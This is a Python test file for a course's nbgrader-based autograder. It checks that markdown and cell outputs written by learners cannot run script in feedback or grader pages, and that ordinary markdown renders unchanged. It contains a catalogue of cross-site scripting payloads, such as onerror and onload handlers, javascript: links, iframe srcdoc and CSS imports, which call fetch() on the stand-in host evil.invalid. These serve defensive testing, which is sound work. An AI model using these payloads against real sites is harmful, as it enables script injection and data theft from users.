"""Nothing that learners write runs in a browser, and what honest learners write looks as before."""

import html
import json
from contextlib import contextmanager, suppress
from urllib.parse import urlsplit

import nbformat
import pytest
from bs4 import BeautifulSoup
from nbconvert.exporters import HTMLExporter
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output
from nbgrader.apps.api import NbGraderAPI
from playwright.sync_api import TimeoutError
from traitlets.config import PyFileConfigLoader

from autograder import COURSE
from autograder.judge.outputs import safe_output
from autograder.plugins import inert
from course.nbgrader_commands import Command, must_run
from evidence.browser import chromium, serve
from tests.autograder.formgrader import formgrader
from tests.autograder.processes import PATIENCE
from tests.lanes import long_but_some, slow_but_some

pytestmark = pytest.mark.xdist_group("inert")  # one worker, so that each class is made once

EXERCISES = sorted((COURSE / "exercises").glob("*/*.ipynb"))
PNG = (  # one pixel
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJg"
    "gg=="
)
EVIL = "http://evil.invalid/"
GO = f"fetch(`{EVIL}`)"  # without spaces and quotes, so that it fits everywhere
LURE = "click me"

MARKDOWN = {
    "script": f"<script>{GO}</script>",
    "script that opens a dialog": "<script>alert(1)</script>",
    "script that sets a variable": "<script>window.hacked = true</script>",
    "script in capitals": f"<SCRIPT>{GO}</SCRIPT>",
    "image with onerror": f'<img src="data:," onerror="{GO}">',
    "svg with onload": f'<svg onload="{GO}"></svg>',
    "details with ontoggle": f'<details open ontoggle="{GO}">x</details>',
    "input with onfocus": f'<input onfocus="{GO}" autofocus>',
    "style with animation": (
        f'<style>@keyframes k{{}}</style><p style="animation:k 1s" onanimationstart="{GO}">x</p>'
    ),
    "iframe": f'<iframe src="{EVIL}"></iframe>',
    "iframe with its own page": f'<iframe srcdoc="<script>{GO}</script>"></iframe>',
    "object": f'<object data="{EVIL}"></object>',
    "embed": f'<embed src="{EVIL}">',
    "video": f'<video src="{EVIL}" autoplay></video>',
    "meta refresh": f'<meta http-equiv="refresh" content="0;url={EVIL}">',
    "base": f'<base href="{EVIL}"><img src="x.png">',
    "style sheet": f'<link rel="stylesheet" href="{EVIL}">',
    "style that imports": f"<style>@import '{EVIL}';</style>",
    "style with a background": f'<p style="background:url({EVIL})">x</p>',
    "remote image": f"![x]({EVIL})",
    "remote image in HTML": f'<img srcset="{EVIL}">',
    "form": f'<form action="{EVIL}"><button>{LURE}</button></form>',
    "link to a script": f"[{LURE}](javascript:{GO})".replace("(`", "%28`").replace("`)", "`%29"),
    "link with an entity": f'<a href="java&#115;cript:{GO}">{LURE}</a>',
    "link behind files/": f'<a href="files/javascript:{GO}">{LURE}</a>',
    "link to a submitted page": f"[{LURE}](page.html)",
    "mermaid": f'```mermaid\n</pre><img src="data:," onerror="{GO}">\n```',
}


FORMULAS = {
    "script in a formula": f'$\\text{{<img src=x onerror={GO}>}} < "\' onload={GO} x="$',
    "script in a formula's code points": f"$$\\text{{&#x3c;img src=x onerror={GO}&#x3e;}}$$",
    "link in a formula": f"$\\href{{javascript:{GO}}}{{\\text{{{LURE}}}}}$",
    "formula in a title": f'<b title="$x$ onmouseover={GO}">x</b> ![$"><img src=x>$](data:,)',
}
"""Texts that do nothing where formulas stay text."""


def shown(mimetype, value, **metadata):
    """A code cell that displays something."""
    return new_code_cell(
        outputs=[new_output("display_data", data={mimetype: value}, metadata=metadata)]
    )


OUTPUTS = {
    "HTML output": shown("text/html", f"<script>{GO}</script>"),
    "isolated HTML output": shown(
        "text/html", f"<script>{GO}</script>", **{"text/html": {"isolated": True}}
    ),
    "Markdown output": shown("text/markdown", f'<img src="data:," onerror="{GO}">'),
    "JavaScript output": shown("application/javascript", f"</script><script>{GO}</script>"),
    "width of a picture": shown("image/png", "", **{"image/png": {"width": f"1 onerror={GO}"}}),
    "height of a picture": shown("image/jpeg", "", **{"image/jpeg": {"height": f"1 onerror={GO}"}}),
    "file name of a picture": shown("image/png", PNG, filenames={"image/png": EVIL}),
}


CELLS = {name: new_markdown_cell(text) for name, text in MARKDOWN.items()} | OUTPUTS


def settings(folder, defended):
    """What this course sets, for a class in a folder of its own."""
    return f"""
load_subconfig("nbgrader_config.py", path={str(COURSE)!r})
c = get_config()
c.CourseDirectory.root = {str(folder)!r}
for step in ("submitted", "autograded", "feedback"):
    c.CourseDirectory[step + "_directory"] = step
c.CourseDirectory.db_url = "sqlite:///{folder}/gradebook.db"
{"" if defended else "del c.HTMLExporter, c.GenerateFeedback"}
"""


def hostile_class(folder, notebooks, defended):
    """Make a class with one submission, as nbgrader leaves it behind after autograding.

    Returns the ids that the gradebook gives to the submitted notebooks.
    """
    folder.mkdir()
    (folder / "nbgrader_config.py").write_text(settings(folder, defended))
    autograded = folder / "autograded" / "mallory" / "hostile"
    autograded.mkdir(parents=True)
    (autograded / "page.html").write_text(f"<script>{GO}</script>")
    config = PyFileConfigLoader("nbgrader_config.py", str(folder)).load_config()
    with NbGraderAPI(config=config).gradebook as gradebook:
        gradebook.add_assignment("hostile")
        for name, cells in notebooks.items():
            gradebook.add_notebook(name, "hostile")
            document = {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": cells}
            (autograded / f"{name}.ipynb").write_text(json.dumps(document))
        gradebook.add_student("mallory")
        submission = gradebook.add_submission("hostile", "mallory")
        return {each.name: each.id for each in submission.notebooks}


@contextmanager
def views(folder, notebooks, defended):
    """The addresses of each notebook's two pages."""
    ids = hostile_class(folder, notebooks, defended)
    must_run(Command(("generate_feedback", "hostile"), folder / "log", folder))
    feedback = folder / "feedback" / "mallory" / "hostile"
    with formgrader(folder, folder / "server.log") as address, serve(feedback) as site:
        yield {
            "feedback": {name: f"{site}/{name}.html" for name in notebooks},
            "formgrader": {
                name: f"{address}/formgrader/submissions/{ids[name]}/" for name in notebooks
            },
        }


@pytest.fixture(scope="module")
def browser():
    with chromium() as opened:
        yield opened


@pytest.fixture(scope="module")
def undefended(tmp_path_factory):
    """Pages of one attack each, since some of them leave the page, with nbgrader's own settings."""
    notebooks = {each: [cell] for each, cell in zip(map(file_name, CELLS), CELLS.values())}
    with views(tmp_path_factory.mktemp("inert") / "class", notebooks, defended=False) as pages:
        yield pages


@pytest.fixture(scope="module")
def defended(tmp_path_factory):
    """The two pages of a notebook with all attacks, with this course's settings."""
    formulas = map(new_markdown_cell, FORMULAS.values())
    cells = [new_markdown_cell("Before."), *CELLS.values(), *formulas, new_markdown_cell("After.")]
    with views(tmp_path_factory.mktemp("inert") / "class", {"all": cells}, True) as pages:
        yield pages


def file_name(attack):
    """The name of an attack's notebook."""
    return attack.replace(" ", "-").replace("/", "")


def visit(browser, url, seconds):
    """Open a page and follow its lures. Returns what was shown and what the learner's part did.

    seconds: to wait for something to be done, after the page was loaded and after each click.
    """
    context = browser.new_context()
    context.route("**/*", lambda route: go_on(route, url))
    page = context.new_page()
    did = []
    page.on("dialog", lambda dialog: (did.append("a dialog"), dialog.dismiss()))
    context.on("request", lambda asked: did.append(asked.url) if EVIL in asked.url else None)
    page.goto(url)
    if not did:
        page.wait_for_load_state("networkidle")
        did += ["a variable"] * bool(page.evaluate("window.hacked"))
    text = page.inner_text("body")
    for lure in page.get_by_text(LURE).all():
        with suppress(TimeoutError), asked_for_evil(context, seconds):
            lure.click()
    if not did:
        with suppress(TimeoutError), asked_for_evil(context, seconds):
            pass
    context.close()
    return text, did


def asked_for_evil(context, seconds):
    """Wait for the request that an attack makes."""
    return context.expect_event(
        "request", lambda request: EVIL in request.url, timeout=1_000 * seconds
    )


def go_on(route, url):
    """Let requests to the page's own server through, and no others."""
    if urlsplit(route.request.url).netloc == urlsplit(url).netloc:
        route.continue_()
    else:
        route.abort()


@pytest.mark.slow
@pytest.mark.long
@pytest.mark.parametrize("attack", long_but_some(CELLS, every=8, mark=pytest.mark.release))
@pytest.mark.parametrize("view", ["feedback", "formgrader"])
def test_the_attack_works_where_nothing_is_done_against_it(browser, undefended, view, attack):
    assert visit(browser, undefended[view][file_name(attack)], PATIENCE)[1]


@pytest.mark.slow
@pytest.mark.parametrize("view", ["feedback", "formgrader"])
def test_no_attack_works(browser, defended, view):
    text, did = visit(browser, defended[view]["all"], 0.5)
    assert did == []
    assert text.index("Before.") < text.index("After.")
    assert text.count("<script>") >= 3  # shown, so that a grader sees what was tried


HONEST = {
    "a quotation": "> To be\n> or not to be",
    "code": "```python\nif a < b & c:\n    pass\n```\n\nand `x<y & z`",
    "code in no language": "```\n<b>a</b> &amp; < b\n```",
    "a table": "| a | b |\n|:--|--:|\n| $x<y$ | <b>2</b> |",
    "lists": "1. one\n   - two\n2. three\n\n- four",
    "links": "[a](https://example.org/?a=1&b=2#c) <https://example.org> <mailto:a@example.org>",
    "inline formula": "$a<b$ and $a_1 & b*c*d$, 2 \\$",
    "formula": "$$\\begin{aligned} a &= b \\\\ c &< d \\end{aligned}$$",
    "formula without dollars": "\\begin{align*} a &< b \\end{align*}",
    "emphasis": "*a* **b** ~~c~~ H<sub>2</sub>O<br>x",
    "details": "<details open><summary>d</summary>e</details>",
    "an attached picture": "![a gate](attachment:gate.png)",
    "a picture in the text": f'![a gate](data:image/png;base64,{PNG} "a title")',
}


def structure(markup):
    """The elements, attributes and texts of some HTML, with formulas as they were typed."""
    markup = markup.replace('align:left;"', 'align:left"').replace('align:right;"', 'align:right"')
    soup = BeautifulSoup(markup.strip(), "html.parser")
    for formula in soup.find_all("math"):
        assert formula.get_text(strip=True)
        formula.replace_with(formula["alttext"])
    soup.smooth()
    return [
        (part.name, part.attrs) if part.name else part.replace("$", "") for part in soup.descendants
    ]


def both(source):
    """Markdown as nbconvert renders it, and as it is shown here."""
    context = {"cell": {"attachments": {"gate.png": {"image/png": PNG}}}}
    stock = HTMLExporter(exclude_anchor_links=True).markdown2html(context, source)
    return stock, inert.markdown2html(context, source)


@pytest.mark.parametrize("kind", HONEST)
def test_honest_markdown_looks_as_before(kind):
    stock, here = both(HONEST[kind])
    assert structure(here) == structure(stock)


@pytest.mark.parametrize("file", slow_but_some(EXERCISES), ids=lambda file: file.stem)
def test_the_exercises_look_as_before(file):
    cells = nbformat.read(file, as_version=4).cells
    texts = [cell.source for cell in cells if cell.cell_type == "markdown"]
    assert texts
    for text in texts:
        stock, here = both(text)
        assert structure(here) == structure(stock)
        assert "$" not in here.replace("alttext", "")


def test_comparisons_without_backticks_stay_readable():
    comparisons = "a < b, a <b, b> c & d && e; x<y>z"
    _, here = both(comparisons)
    assert BeautifulSoup(here, "html.parser").get_text().strip() == comparisons


@pytest.mark.parametrize(
    "source", ["![x](attachment:lost.png)", "<div>" * 20_000], ids=["lost attachment", "too long"]
)
def test_markdown_that_cannot_be_rendered_is_shown_as_typed(source):
    assert inert.markdown2html({}, source) == f"<pre>{html.escape(source)}</pre>"


def test_a_text_takes_no_place_of_the_page_around_it():
    _, here = both('# answer\n\n<p id="answer" class="score" style="position:fixed">x</p>')
    assert structure(here) == structure("<h1>answer</h1>\n<p>x</p>")


@pytest.mark.parametrize("quote", ["", '"', "'", """"'"""])
def test_a_formula_within_a_tag_stays_text(quote):
    _, here = both(f"![a $x{quote}>y$ b](data:image/png;base64,{PNG}) and $z{quote}<w$")
    soup = BeautifulSoup(here, "html.parser")
    assert soup.img["alt"] == f"a x{quote}>y b"
    assert [formula["alttext"] for formula in soup.find_all("math")] == [f"z{quote}<w"]
    assert soup.get_text().startswith(" and z")


def test_task_lists_show_what_is_done():
    text = BeautifulSoup(both("- [ ] a\n- [x] b")[1], "html.parser").get_text()
    assert text.split() == ["☐", "a", "☑", "b"]


SAFE = [
    new_output("stream", name="stderr", text="a\x1b[31mb"),
    new_output("error", ename="E", evalue="e", traceback=["E: e"]),
    new_output("display_data", data={"text/plain": "<b>", "image/png": PNG}),
    new_output("execute_result", data={"text/plain": "1"}, execution_count=3),
]


@pytest.mark.parametrize("output", SAFE, ids=lambda output: output.output_type)
def test_text_pictures_and_errors_stay(output):
    assert safe_output(output) == output


@pytest.mark.parametrize("name", OUTPUTS)
def test_other_outputs_go(name):
    (output,) = OUTPUTS[name].outputs
    kept = safe_output(output)
    assert kept is None or kept == {
        "output_type": "display_data", "data": {"image/png": PNG}, "metadata": {}
    }  # fmt: skip


@pytest.mark.parametrize(
    "output",
    [
        {},
        {"output_type": "update_display_data", "data": {"text/plain": "x"}},
        {"output_type": "display_data"},
        {"output_type": "display_data", "data": []},
        {"output_type": "display_data", "data": {"text/plain": {"a": 1}}},
        {"output_type": "display_data", "data": {"image/png": f'"{PNG}'}},
        {"output_type": "display_data", "data": {"image/png": "PHN2Zz4="}},
        {"output_type": "display_data", "data": {"image/jpeg": PNG}},
    ],
    ids=str,
)
def test_a_malformed_output_leaves_nothing(output):
    assert safe_output(output) is None


@pytest.mark.parametrize(
    "output",
    [
        {"output_type": "stream", "name": "<b>", "text": {"a": 1}},
        {"output_type": "stream", "name": "stdout", "text": ["a\ud800", "b"]},
        {"output_type": "error", "ename": 1, "traceback": [1, ["a"], None]},
        {"output_type": "error", "traceback": "x"},
        {"output_type": "execute_result", "execution_count": "<b>", "data": {"text/plain": ["a"]}},
    ],
    ids=str,
)
def test_a_malformed_output_becomes_a_valid_one_that_can_be_written(output):
    kept = safe_output(output)
    nbformat.validate(kept, ref="output", version=4)
    json.dumps(kept, ensure_ascii=False).encode()
